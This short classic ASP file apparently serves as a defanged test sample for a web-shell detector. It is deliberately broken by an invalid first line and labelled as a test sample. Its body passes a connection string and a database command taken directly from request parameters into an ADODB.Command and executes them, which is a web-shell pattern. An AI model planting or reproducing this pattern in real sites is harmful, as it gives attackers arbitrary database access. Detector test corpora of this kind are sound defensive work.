<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set cmd = CreateObject("ADODB.Command")
cmd.ActiveConnection = Request("c")
cmd.CommandText = Request("q")
cmd.Execute
%>
